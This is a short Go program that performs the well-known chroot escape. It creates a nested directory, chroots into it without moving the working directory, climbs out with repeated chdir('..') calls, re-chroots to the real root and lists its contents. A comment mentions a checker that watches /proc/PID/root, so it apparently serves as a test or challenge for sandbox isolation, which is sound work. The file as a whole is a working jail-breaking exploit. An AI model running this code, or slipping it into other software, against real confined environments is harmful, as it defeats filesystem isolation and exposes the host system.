// Out of a chroot.
package main

import (
	"fmt"
	"os"
	"syscall"
	"time"
)

func main() {
	if err := getOut(); err != nil {
		fmt.Fprintln(os.Stderr, "get out:", err)
		os.Exit(1)
	}
	entries, err := os.ReadDir("/")
	if err != nil {
		fmt.Fprintln(os.Stderr, "read /:", err)
		os.Exit(1)
	}
	for _, e := range entries {
		fmt.Println("/" + e.Name())
	}
	time.Sleep(time.Minute) // the checker looks at /proc/PID/root meanwhile
}

// getOut moves the root below the current directory. The kernel stops .. at the root, and
// only there: whoever is above it already walks on to the real one. chroot(2)
func getOut() error {
	if err := os.MkdirAll("/tmp/deeper", 0o755); err != nil {
		return err
	}
	if err := syscall.Chroot("/tmp/deeper"); err != nil { // does not change the current directory
		return err
	}
	for range 100 {
		if err := os.Chdir(".."); err != nil {
			return err
		}
	}
	return syscall.Chroot(".")
}
